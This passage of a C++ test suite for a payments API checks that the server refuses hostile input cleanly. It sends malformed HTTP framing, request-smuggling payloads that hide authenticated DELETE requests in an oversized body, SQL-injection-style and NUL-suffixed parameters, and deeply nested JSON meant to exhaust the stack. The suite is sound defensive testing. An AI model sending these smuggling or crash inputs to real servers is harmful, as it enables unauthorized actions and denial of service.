                      R"({"since":"2026-01-01T00:00:00Z\u0000junk"})", "parameter_invalid", "since")
                  .because("the pattern stops at U+0000, so the suffix passes it"));
  v.push_back(invalid("recover_since_missing", recover, "{}", "parameter_missing", "since"));
  v.push_back(invalid("recover_unknown_field", recover,
                      R"({"since":"2026-01-01T00:00:00Z","until":"x"})", "parameter_unknown",
                      "until"));
  v.push_back(post("recover_unknown_id", "/v1/subscriptions/sub_doesnotexist/recover",
                   R"({"since":"2026-01-01T00:00:00Z"})", 404, "resource_missing"));
  v.push_back(post("recover_text_plain", recover, R"({"since":"2026-01-01T00:00:00Z"})", 415,
                   "content_type_unsupported")
                  .header("Content-Type", "text/plain"));
  const std::string deliveries = one + "/deliveries";
  v.push_back(get("deliveries_limit_abc", deliveries + "?limit=abc", 400, "parameter_invalid")
                  .withParam("limit"));
  v.push_back(get("deliveries_starting_after_unknown", deliveries + "?starting_after=x'--", 400,
                  "resource_missing")
                  .withParam("starting_after"));
  v.push_back(get("deliveries_unknown_subscription",
                  "/v1/subscriptions/sub_doesnotexist/deliveries", 404, "resource_missing"));
  v.push_back(request("deliveries_post", "POST", deliveries, 405, "method_not_allowed"));
  v.push_back(get("subscription_unknown_action", one + "/explode", 404, "resource_missing"));
  v.push_back(get("subscription_too_deep", one + "/deliveries/x", 404, "resource_missing"));
  return v;
}

/// After everything above: the server still answers, and nothing hostile leaked into metrics.
std::vector<Case> afterCases() {
  std::vector<Case> v;
  v.push_back(get("zz_after_healthz", "/healthz", 200, "").noAuth());
  v.push_back(get("zz_after_readyz", "/readyz", 200, "").noAuth());
  v.push_back(post("zz_after_normal_collection", "/v1/collections", validCollection(), 201, "")
                  .then([](const Case&, const http::HttpResult& r) {
                    auto d = parseStrict(r.response.body);
                    ASSERT_TRUE(d.IsObject()) << r.response.body;
                    EXPECT_STREQ(d["status"].GetString(), "succeeded");
                  }));
  v.push_back(post("zz_after_normal_payout", "/v1/payouts", object(kPayout), 201, ""));
  v.push_back(get("zz_after_list", "/v1/collections?limit=100", 200, ""));
  v.push_back(get("zz_after_metrics", "/metrics", 200, "").noAuth().then(metricsAreClean()));
  return v;
}

std::vector<Case> allCases() {
  std::vector<Case> all;
  for (auto part : {collectionCases(), payoutCases(), listAndIdCases(), webhookCases(),
                    subscriptionCases(), operationsCases(), afterCases()}) {
    for (auto& c : part) all.push_back(std::move(c));
  }
  return all;
}

// ---- the test -----------------------------------------------------------------------------

std::string createdId(const http::HttpResult& r) {
  auto d = parseStrict(r.response.body);
  if (r.response.status != 201 || !d.IsObject() || !d.HasMember("id")) {
    ADD_FAILURE() << "fixture create failed: " << r.response.status << " " << r.response.body;
    return "missing";
  }
  return d["id"].GetString();
}

std::string firstEventId(const std::string& key) {
  auto r = harness->call("GET", "/v1/events?limit=1", "", key);
  auto d = parseStrict(r.response.body);
  if (!d.IsObject() || !d["data"].IsArray() || d["data"].Empty()) {
    ADD_FAILURE() << "no event for fixture: " << r.response.body;
    return "missing";
  }
  return d["data"][0]["id"].GetString();
}

/// One server for the whole binary, created by the first test that needs it.
void ensureHarness() {
  if (harness != nullptr) return;
  ApiHarness::Options o;
  o.max_body_bytes = kBodyLimit;
  o.allow_private_networks = false;  // production's default: subscription URLs are checked
  harness = new ApiHarness(o);
  fx.key = harness->newTenantKey();
  fx.other_key = harness->newTenantKey();
  fx.collection_id = createdId(harness->post("/v1/collections", collectionBody(), fx.key));
  fx.payout_id = createdId(harness->post("/v1/payouts", payoutBody(), fx.key));
  fx.other_collection_id =
      createdId(harness->post("/v1/collections", collectionBody(), fx.other_key));
  fx.event_id = firstEventId(fx.key);
  fx.other_event_id = firstEventId(fx.other_key);
  const std::string subscription =
      R"({"url":"https://example.com/paymux","event_types":["payout.returned"]})";
  fx.subscription_id = createdId(harness->post("/v1/subscriptions", subscription, fx.key));
  fx.other_subscription_id =
      createdId(harness->post("/v1/subscriptions", subscription, fx.other_key));
}

class HarnessEnvironment : public ::testing::Environment {
 public:
  void TearDown() override {
    delete harness;
    harness = nullptr;
  }
};
const auto* const kEnvironment = ::testing::AddGlobalTestEnvironment(new HarnessEnvironment);

class BadInput : public ::testing::TestWithParam<Case> {
 protected:
  static void SetUpTestSuite() { ensureHarness(); }
};

TEST_P(BadInput, AnswersExactly) {
  const Case& c = GetParam();
  ASSERT_NE(harness, nullptr);
  if (!c.why.empty()) RecordProperty("why", c.why);
  SCOPED_TRACE(c.why.empty() ? c.method + " " + c.path.substr(0, 80) : "expected because " + c.why);
  auto r = send(c);
  ASSERT_TRUE(r.ok()) << "transport error: " << r.error_message;
  const auto& resp = r.response;
  std::string shown = resp.body.substr(0, 400);
  EXPECT_LT(resp.status, 500) << "5xx for bad input: " << shown;
  EXPECT_EQ(resp.status, c.status) << shown;
  EXPECT_FALSE(resp.header("x-request-id").empty()) << "no X-Request-Id";
  if (c.method == "HEAD") return;
  if (c.path.rfind("/metrics", 0) == 0) {
    if (c.check) c.check(c, r);
    return;
  }
  EXPECT_EQ(resp.header("content-type").rfind("application/json", 0), 0u)
      << "content-type " << resp.header("content-type") << ": " << shown;
  auto d = parseStrict(resp.body);
  ASSERT_FALSE(d.HasParseError()) << "answer is not valid UTF-8 JSON: " << shown;
  ASSERT_TRUE(d.IsObject() || d.IsArray()) << shown;
  if (!c.code.empty()) {
    ASSERT_TRUE(d.IsObject() && d.HasMember("error") && d["error"].IsObject()) << shown;
    const auto& e = d["error"];
    ASSERT_TRUE(e.HasMember("code") && e["code"].IsString()) << shown;
    EXPECT_EQ(std::string(e["code"].GetString()), c.code) << shown;
    ASSERT_TRUE(e.HasMember("type") && e["type"].IsString()) << shown;
    EXPECT_EQ(std::string(e["type"].GetString()), errorType(c.code)) << shown;
    EXPECT_TRUE(e.HasMember("message") && e["message"].IsString()) << shown;
    if (c.param) {
      std::string got = e.HasMember("param") && e["param"].IsString()
                            ? std::string(e["param"].GetString(), e["param"].GetStringLength())
                            : "<no param>";
      EXPECT_EQ(got.substr(0, 200), c.param->substr(0, 200)) << shown;
    }
  } else {
    EXPECT_FALSE(d.IsObject() && d.HasMember("error")) << shown;
  }
  if (c.check) c.check(c, r);
}

// ---- connection-level cases ----------------------------------------------------------------

std::string lowerCase(std::string s) {
  for (char& ch : s) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
  return s;
}

const std::string kAfterRefusal =
    "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-Id: after-refusal\r\n\r\n";

/// A request whose framing the server must refuse: it answers `status`/`code` as JSON and then
/// closes the connection, so `next` (sent on the same connection after the answer arrived, where
/// a server that keeps parsing would take it for a new request) is never answered.
struct FramingCase {
  FramingCase(std::string name_, std::string bytes_, long status_, std::string code_,
              std::string next_ = kAfterRefusal, std::string message_names_ = "")
      : name(std::move(name_)),
        bytes(std::move(bytes_)),
        status(status_),
        code(std::move(code_)),
        next(std::move(next_)),
        message_names(std::move(message_names_)) {}
  std::string name;
  std::string bytes;
  long status;
  std::string code;
  std::string next;
  std::string message_names;  // the field the error message must name, if any
};

void PrintTo(const FramingCase& c, std::ostream* os) {  // NOLINT(readability-identifier-naming)
  *os << c.name;
}

std::string postHead(const std::string& extra_headers) {
  return "POST /v1/collections HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" +
         extra_headers + "\r\n";
}

std::vector<FramingCase> framingCases() {
  const std::string get = "GET /healthz HTTP/1.1\r\nHost: x\r\n";
  const std::string body = validCollection();
  const std::string length = "Content-Length: " + std::to_string(body.size()) + "\r\n";
  // why the bodies come as `next`: a server that misreads the length takes them for a request.
  const std::string smuggled_body = kAfterRefusal;
  return {
      {"unknown_method", "FOO /healthz HTTP/1.1\r\nHost: x\r\n\r\n", 405, "method_not_allowed"},
      {"lower_case_method", "get /healthz HTTP/1.1\r\nHost: x\r\n\r\n", 405, "method_not_allowed"},
      {"http_version_1_2", "GET /healthz HTTP/1.2\r\nHost: x\r\n\r\n", 400, "request_malformed"},
      {"http_version_prefix", "GET /healthz HTTP/1\r\nHost: x\r\n\r\n", 400, "request_malformed"},
      {"request_line_without_version", "GET /healthz\r\nHost: x\r\n\r\n", 400, "request_malformed"},
      {"request_line_bare_lf", "GET /healthz\nHTTP/1.1\r\nHost: x\r\n\r\n", 400,
       "request_malformed"},
      {"control_character_in_target", "GET /heal\x01thz HTTP/1.1\r\nHost: x\r\n\r\n", 400,
       "request_malformed"},
      {"header_line_without_colon", get + "NoColonHere\r\n\r\n", 400, "request_malformed"},
      {"whitespace_before_colon",
       postHead("Content-Length : " + std::to_string(body.size()) + "\r\n"), 400,
       "request_malformed", body},
      {"obs_fold", get + "X-A: a\r\n folded\r\n\r\n", 400, "request_malformed"},
      {"bare_lf_between_headers", get + "X-A: a\nContent-Length: 0\r\n\r\n", 400,
       "request_malformed"},
      {"nul_in_header_value", get + std::string("X-A: a\0b\r\n\r\n", 12), 400, "request_malformed"},
      {"content_length_not_a_number", postHead("Content-Length: abc\r\n"), 400, "request_malformed",
       smuggled_body},
      {"content_length_negative", postHead("Content-Length: -1\r\n"), 400, "request_malformed",
       smuggled_body},
      {"content_length_hex", postHead("Content-Length: 0x10\r\n"), 400, "request_malformed",
       smuggled_body},
      {"content_length_trailing_garbage", postHead("Content-Length: 0abc\r\n"), 400,
       "request_malformed", smuggled_body},
      {"content_length_conflicting", postHead(length + "Content-Length: 0\r\n"), 400,
       "request_malformed", body},
      {"content_length_over_limit",
       postHead("Content-Length: " + std::to_string(kBodyLimit + 1) + "\r\n"), 413,
       "body_too_large", smuggled_body},
      {"content_length_overflows_64_bits",
       postHead("Content-Length: 99999999999999999999999999\r\n"), 413, "body_too_large",
       smuggled_body},
      {"transfer_encoding_chunked", postHead("Transfer-Encoding: chunked\r\n"), 411,
       "length_required", "5\r\nhello\r\n0\r\n\r\n" + smuggled_body},
      {"transfer_encoding_and_content_length",
       postHead("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"), 411, "length_required",
       "0\r\n\r\n" + smuggled_body},
      {"headers_over_128_kib", get + "X-Big: " + std::string(200 * 1024, 'h') + "\r\n\r\n", 431,
       "headers_too_large"},
      {"request_line_over_128_kib",
       "GET /" + std::string(200 * 1024, 'p') + " HTTP/1.1\r\nHost: x\r\n\r\n", 431,
       "headers_too_large"},
      {"unparseable_content_type", postHead(length + "Content-Type: x application/json\r\n"), 415,
       "content_type_unsupported", body},
      // Fields Pistache's own typed parsers refuse: the answer names the field.
      {"unparseable_accept", get + "Accept: text/html;q=abc\r\n\r\n", 400, "request_malformed",
       kAfterRefusal, "Accept"},
      {"unparseable_date", get + "Date: yesterday\r\n\r\n", 400, "request_malformed", kAfterRefusal,
       "Date"},
      {"unparseable_cookie", get + "Cookie: a\r\n\r\n", 400, "request_malformed", kAfterRefusal,
       "Cookie"},
      {"unparseable_host", get + "Host: [::1\r\n\r\n", 400, "request_malformed", kAfterRefusal,
       "Host"},
  };
}

class BadInputFraming : public ::testing::TestWithParam<FramingCase> {
 protected:
  static void SetUpTestSuite() { ensureHarness(); }
};

TEST_P(BadInputFraming, AnswersJsonThenClosesTheConnection) {
  const FramingCase& c = GetParam();
  RawConnection conn(3);
  ASSERT_TRUE(conn.connected());
  conn.send(c.bytes);
  std::string first = conn.readAnswer();
  auto r = parseAnswer(first);
  ASSERT_TRUE(r.ok()) << r.error_message;
  const auto& resp = r.response;
  EXPECT_EQ(resp.status, c.status) << resp.body;
  EXPECT_FALSE(resp.header("x-request-id").empty()) << "no X-Request-Id";
  EXPECT_EQ(resp.header("content-type").rfind("application/json", 0), 0u) << first;
  EXPECT_EQ(lowerCase(resp.header("connection")), "close") << first;
  auto d = parseStrict(resp.body);
  ASSERT_TRUE(d.IsObject() && d.HasMember("error") && d["error"].IsObject()) << resp.body;
  EXPECT_EQ(std::string(d["error"]["code"].GetString()), c.code) << resp.body;
  EXPECT_EQ(std::string(d["error"]["type"].GetString()), "invalid_request_error") << resp.body;
  ASSERT_TRUE(d["error"]["message"].IsString()) << resp.body;
  EXPECT_NE(std::string(d["error"]["message"].GetString()).find(c.message_names), std::string::npos)
      << resp.body;

  conn.send(c.next);  // fails once the server is gone: fine, nothing may answer it
  std::string rest;
  EXPECT_TRUE(conn.readUntilClosed(&rest)) << "the connection stayed open after a refusal";
  EXPECT_EQ(rest.find("HTTP/1."), std::string::npos)
      << "bytes sent after a refused request were parsed as a new request:\n"
      << rest.substr(0, 400);
}

std::string framingCaseName(const ::testing::TestParamInfo<FramingCase>& info) {
  return info.param.name;
}

INSTANTIATE_TEST_SUITE_P(Framing, BadInputFraming, ::testing::ValuesIn(framingCases()),
                         framingCaseName);

/// A refused head still answers with the client's own X-Request-Id when it can be read.
TEST(BadInputConnection, RefusalEchoesTheClientRequestId) {
  ensureHarness();
  for (const std::string& extra : {std::string("Content-Length: 999999999\r\n"),
                                   std::string("Transfer-Encoding: chunked\r\n")}) {
    RawConnection conn(3);
    ASSERT_TRUE(conn.connected());
    conn.send(postHead("X-Request-Id: client-chosen-id\r\n" + extra));
    auto r = parseAnswer(conn.readAnswer());
    ASSERT_TRUE(r.ok()) << r.error_message;
    EXPECT_GE(r.response.status, 400) << r.response.body;
    EXPECT_EQ(r.response.header("x-request-id"), "client-chosen-id") << extra;
  }
}

/// `head` (ending with its last header line) padded with an X-Pad header so that head plus
/// `body` are exactly `size` bytes.
std::string paddedRequest(std::string head, const std::string& body, size_t size) {
  head += "X-Pad: ";
  head += std::string(size - head.size() - 4 - body.size(), 'p');
  return head + "\r\n\r\n" + body;
}

// why 4 KiB blocks, sent one at a time: Pistache reads at most 4 KiB at a time, so each read
// is then one whole block, and wherever a server gives up on the refused body, if it keeps
// reading the connection, the next thing it parses is a whole hidden request.
constexpr size_t kBlock = 4096;

/// Sends `head` (one block), then `count` times `block`, pausing between blocks; stops when the
/// server no longer takes bytes (it closed the connection).
void sendBlocks(RawConnection& conn, const std::string& head, const std::string& block,
                size_t count) {
  if (!conn.send(head)) return;
  for (size_t i = 0; i < count; ++i) {
    std::this_thread::sleep_for(std::chrono::microseconds(500));
    if (!conn.send(block)) return;
  }
}

/// A request hidden in the unread rest of an oversized body must never be executed: the server
/// answers the oversized request once and closes the connection (request smuggling otherwise).
TEST(BadInputConnection, OversizedBodyDoesNotSmuggleARequest) {
  ensureHarness();
  std::string block = paddedRequest(
      "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-Id: smuggled-request\r\n", "", kBlock);
  const size_t blocks = 512;  // 2 MiB, 8 times the body limit
  RawConnection conn(5);
  ASSERT_TRUE(conn.connected());
  sendBlocks(conn,
             paddedRequest("POST /v1/collections HTTP/1.1\r\nHost: x\r\n"
                           "Content-Type: application/json\r\nContent-Length: " +
                               std::to_string(blocks * kBlock) + "\r\n",
                           "", kBlock),
             block, blocks);
  std::string answer = conn.readAnswer();
  EXPECT_EQ(answer.rfind("HTTP/1.1 413", 0), 0u) << answer.substr(0, 300);
  std::string rest;
  EXPECT_TRUE(conn.readUntilClosed(&rest)) << "the connection stayed open after a refusal";
  EXPECT_EQ((answer + rest).find("smuggled-request"), std::string::npos)
      << "a request hidden in the refused body was executed:\n"
      << rest.substr(0, 600);
  EXPECT_EQ(rest.find("HTTP/1."), std::string::npos) << rest.substr(0, 600);
}

std::string newSubscription() {
  return createdId(harness->post(
      "/v1/subscriptions", R"({"url":"https://example.com/smuggling","event_types":[]})", fx.key));
}

long subscriptionStatus(const std::string& id) {
  return harness->call("GET", "/v1/subscriptions/" + id, "", fx.key).response.status;
}

/// The same with a hidden request that changes state: after the refused request, the
/// subscription the hidden requests delete still exists. (A request without a body: Pistache
/// 0.0.5 keeps a refused body's byte count, so on its own a hidden request with a body would only
/// ever be read as more body.) The same block on its own does delete a subscription.
TEST(BadInputConnection, OversizedBodyTailNeverDeletesASubscription) {
  ensureHarness();
  auto hiddenDelete = [](const std::string& id) {
    return paddedRequest("DELETE /v1/subscriptions/" + id +
                             " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + fx.key +
                             "\r\nConnection: keep-alive\r\n",
                         "", kBlock);
  };
  std::string control = newSubscription();
  {
    RawConnection alone;
    ASSERT_TRUE(alone.connected());
    alone.send(hiddenDelete(control));
    auto r = parseAnswer(alone.readAnswer());
    ASSERT_TRUE(r.ok()) << r.error_message;
    ASSERT_LT(r.response.status, 300) << "the hidden request must work: " << r.response.body;
  }
  ASSERT_EQ(subscriptionStatus(control), 404);

  std::string target = newSubscription();
  ASSERT_EQ(subscriptionStatus(target), 200);
  const size_t blocks = 512;  // 2 MiB of valid, authenticated requests
  RawConnection conn(5);
  ASSERT_TRUE(conn.connected());
  sendBlocks(
      conn,
      paddedRequest("POST /v1/collections HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + fx.key +
                        "\r\nContent-Type: application/json\r\nConnection: keep-alive\r\n"
                        "Content-Length: " +
                        std::to_string(blocks * kBlock) + "\r\n",
                    "", kBlock),
      hiddenDelete(target), blocks);
  auto r = parseAnswer(conn.readAnswer());
  ASSERT_TRUE(r.ok()) << r.error_message;
  EXPECT_EQ(r.response.status, 413) << r.response.body;
  std::string rest;
  EXPECT_TRUE(conn.readUntilClosed(&rest)) << "the connection stayed open after a refusal";
  EXPECT_EQ(rest.find("HTTP/1."), std::string::npos) << rest.substr(0, 600);
  EXPECT_EQ(subscriptionStatus(target), 200) << "a request hidden in a refused body ran";
}

/// What the refusals must not break: a keep-alive connection answers request after request, and
/// a body is read by its Content-Length wherever the reads split it.
TEST(BadInputConnection, KeepAliveConnectionAnswersEveryRequest) {
  ensureHarness();
  RawConnection conn;
  ASSERT_TRUE(conn.connected());
  std::string json = validCollection();
  std::string post = "POST /v1/collections HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + fx.key +
                     "\r\nContent-Type: application/json\r\nConnection: keep-alive\r\n"
                     "Content-Length: " +
                     std::to_string(json.size()) + "\r\n\r\n" + json;
  for (int i = 0; i < 3; ++i) {
    SCOPED_TRACE("request " + std::to_string(i));
    // why in pieces: the head and body arrive in separate reads, split inside a header line.
    size_t split = post.find("Content-Type") + 5;
    ASSERT_TRUE(conn.send(post.substr(0, split)));
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
    ASSERT_TRUE(conn.send(post.substr(split)));
    auto r = parseAnswer(conn.readAnswer());
    ASSERT_TRUE(r.ok()) << r.error_message;
    EXPECT_EQ(r.response.status, 201) << r.response.body;
    EXPECT_EQ(lowerCase(r.response.header("connection")), "keep-alive");
  }
  ASSERT_TRUE(conn.send("GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n"));
  auto r = parseAnswer(conn.readAnswer());
  ASSERT_TRUE(r.ok()) << r.error_message;
  EXPECT_EQ(r.response.status, 200) << r.response.body;
}

/// Bodies nested deeper than the stack allows must be refused, not crash the server. Each runs in
/// a child process (a death test), so a crash fails that test without taking the others down.
/// The harness's body limit is 256 KiB; the crashes below need more than about 130k levels in the
/// release build (8 MiB worker stacks), 64k in the ASan build: max_body_bytes may be 16 MiB.
void expectSurvives(Case c) {
  GTEST_FLAG_SET(death_test_style, "threadsafe");
  const long status = c.status;
  // why: the child leaves through _Exit (or a crash), so the parent drops its database; the
  // child runs this test from the top again, so it finds the file's name in the environment.
  constexpr const char* kDbFileVar = "PAYMUX_BAD_INPUT_CHILD_DB_FILE";
  std::string db_file;
  if (const char* inherited = std::getenv(kDbFileVar)) {
    db_file = inherited;
  } else {
    char path[] = "/tmp/paymux_bad_input_db_XXXXXX";
    int fd = ::mkstemp(path);
    ASSERT_GE(fd, 0);
    ::close(fd);
    db_file = path;
    ::setenv(kDbFileVar, path, 1);
  }
  EXPECT_EXIT(
      {
        ensureHarness();
        std::string url = harness->databaseUrl();
        std::string name = url.substr(url.rfind('/') + 1);
        if (FILE* f = std::fopen(db_file.c_str(), "w")) {
          std::fputs(name.substr(0, name.find('?')).c_str(), f);
          std::fclose(f);
        }
        auto r = send(c);
        // why _Exit: no atexit handlers (LeakSanitizer's) in the child.
        std::_Exit(r.ok() && r.response.status == status ? 0 : 3);
      },
      ::testing::ExitedWithCode(0), "")
      << c.method << " " << c.path << ": exit 3 = a wrong answer; a signal = the server crashed";
  ::unsetenv(kDbFileVar);
  std::string name;
  if (FILE* f = std::fopen(db_file.c_str(), "r")) {
    char buf[128] = {};
    if (std::fgets(buf, sizeof buf, f) != nullptr) name = buf;
    std::fclose(f);
  }
  std::remove(db_file.c_str());
  if (name.rfind("paymux_t_", 0) == 0) {
    pqxx::connection admin(TestDatabase::adminUrl());
    pqxx::nontransaction txn(admin);
    txn.exec("DROP DATABASE IF EXISTS " + txn.quote_name(name) + " WITH (FORCE)");
  }
}

const std::string kDeepArrays(kBodyLimit - 64, '[');

TEST(BadInputDeepNesting, CollectionBody) {
  // Parsed iteratively and validated: refused with a 400.
  expectSurvives(
      post("deep", "/v1/collections", "{\"amount\":" + kDeepArrays, 400, "json_invalid"));
}

TEST(BadInputDeepNesting, RotateSecretBody) {
  // subscription_routes.cc requireNoParameters: RapidJSON's recursive parser.
  ensureHarness();
  Case c = post("deep", "/v1/subscriptions/" + fx.subscription_id + "/rotate_secret", kDeepArrays,
                400, "json_invalid");
  expectSurvives(c);
}

TEST(BadInputDeepNesting, SignedSandboxWebhookBody) {
  // sandbox_connector.cc parseWebhook: recursive parse (after a valid signature).
  expectSurvives(post("deep", "/webhooks/sandbox-a", "{\"id\":\"evt_deep\",\"data\":" + kDeepArrays,
                      400, "json_invalid")
                     .noAuth()
                     .signedAs(Sign::kValid));
}

std::string caseName(const ::testing::TestParamInfo<Case>& info) { return info.param.name; }

INSTANTIATE_TEST_SUITE_P(Hostile, BadInput, ::testing::ValuesIn(allCases()), caseName);

TEST(BadInputTable, HasEnoughUniqueCases) {
  auto cases = allCases();
  EXPECT_GE(cases.size(), 150u);
  std::set<std::string> names;
  for (const auto& c : cases)
    EXPECT_TRUE(names.insert(c.name).second) << "duplicate case " << c.name;
}

}  // namespace
}  // namespace paymux::testing
